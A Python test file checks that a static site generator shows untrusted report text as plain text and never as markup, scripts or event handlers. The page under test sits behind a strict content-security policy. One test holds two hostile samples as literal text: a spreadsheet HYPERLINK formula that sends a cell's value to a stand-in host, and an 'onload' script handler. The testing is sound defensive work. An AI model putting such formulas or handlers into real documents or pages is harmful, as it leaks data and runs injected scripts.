"""Text of a report is untrusted: in every page it is shown, and none of it is mark-up."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from yotgraph.publishing.site.rendering import CONTENT_POLICY

# What the templates use. Anything else came out of a report.
_ELEMENTS = frozenset(
    [
        "a",
        "article",
        "aside",
        "body",
        "button",
        "caption",
        "code",
        "datalist",
        "dd",
        "details",
        "div",
        "dl",
        "dt",
        "fieldset",
        "footer",
        "form",
        "h1",
        "h2",
        "h3",
        "h4",
        "head",
        "header",
        "html",
        "input",
        "label",
        "legend",
        "li",
        "line",
        "link",
        "main",
        "meta",
        "nav",
        "noscript",
        "ol",
        "option",
        "p",
        "polygon",
        "circle",
        "pre",
        "q",
        "script",
        "section",
        "select",
        "span",
        "style",
        "summary",
        "svg",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "title",
        "tr",
        "ul",
    ]
)
_ADDRESS = re.compile(
    r"(?:https?://(?:www\.nationalarchives\.gov\.uk|w3id\.org|example\.org)/\S*|[\w./~#?=%,&+-]*)"
)


class Elements(HTMLParser):
    """The elements of a page with their attributes, and its scripts and styles."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(page: Path) -> Elements:
    read = Elements()
    read.feed(page.read_text(encoding="utf-8"))
    return read


def pages(folder: Path) -> Iterator[Path]:
    found = sorted(folder.rglob("*.html"))
    assert len(found) > 60
    yield from found


def test_no_text_of_a_report_becomes_an_element_or_a_handler(hostile_build: Path) -> None:
    for page in pages(hostile_build / "site"):
        for tag, attributes in elements(page).found:
            assert tag in _ELEMENTS, (page, tag)
            assert not [name for name in attributes if name.startswith("on") or name == "style"]
            for name in ("href", "src", "action"):
                address = attributes.get(name) or ""
                assert _ADDRESS.fullmatch(address), (page, address)


def test_a_script_of_a_page_lies_beside_it(hostile_build: Path) -> None:
    for page in pages(hostile_build / "site"):
        scripts = [attributes for tag, attributes in elements(page).found if tag == "script"]
        assert scripts
        for attributes in scripts:
            assert (page.parent / (attributes["src"] or "none")).is_file()


def test_every_page_has_the_strict_policy(hostile_build: Path) -> None:
    assert "'unsafe" not in CONTENT_POLICY
    assert CONTENT_POLICY.startswith("default-src 'none'")
    for page in pages(hostile_build / "site"):
        policies = [
            attributes["content"]
            for tag, attributes in elements(page).found
            if tag == "meta" and attributes.get("http-equiv") == "Content-Security-Policy"
        ]
        assert policies == [CONTENT_POLICY]


def test_the_page_that_holds_everything_names_its_scripts_by_hash(hostile_build: Path) -> None:
    found = elements(hostile_build / "partners.html").found
    policy = next(
        attributes["content"] or ""
        for tag, attributes in found
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    assert "'unsafe" not in policy
    assert "'self'" not in policy
    scripts = [attributes for tag, attributes in found if tag == "script"]
    assert policy.count("'sha256-") == len(scripts) + 1
    assert all(not attributes for attributes in scripts)


@pytest.mark.parametrize("page", ["question/strengths.html", "report/northmoor-2016-03.html"])
def test_the_words_are_shown_as_they_stand(hostile_build: Path, page: str) -> None:
    text = "".join(elements(hostile_build / "site" / page).text)
    assert '=HYPERLINK("https://example.org/?x="&A1,"Good work")' in text
    assert "onload=alert('run')" in text


def test_data_for_scripts_holds_no_mark_up(hostile_build: Path) -> None:
    scripts = sorted((hostile_build / "site" / "data").rglob("*.js"))
    assert len(scripts) >= 3
    for script in scripts:
        text = script.read_text(encoding="ascii")
        assert not set(text) & set("<>&"), script


def test_no_page_and_no_part_of_the_search_is_large(built: Path) -> None:
    for path in (built / "site").rglob("*"):
        if path.suffix in (".html", ".js") and path.parent.name != "assets":
            assert path.stat().st_size < 1_000_000, path


def test_no_two_places_of_a_page_have_one_name(built: Path) -> None:
    for page in pages(built / "site"):
        names = [attributes["id"] for _, attributes in elements(page).found if "id" in attributes]
        assert len(names) == len(set(names)), (page, [n for n in names if names.count(n) > 1])


def test_every_link_of_every_page_leads_somewhere(built: Path) -> None:
    site = built / "site"
    names: dict[Path, set[str]] = {}
    for page in site.rglob("*.html"):
        names[page.resolve()] = {
            attributes["id"] or "" for _, attributes in elements(page).found if "id" in attributes
        }
    checked = 0
    for page in names:
        for tag, attributes in elements(page).found:
            address = attributes.get("href") or ""
            if tag not in ("a", "link") or "://" in address:
                continue
            path, _, place = address.partition("#")
            target = (page.parent / path).resolve() if path else page
            assert target.is_file(), (page, address)
            if place and "=" not in place:
                assert place in names[target], (page, address)
            checked += 1
    assert checked > 5000
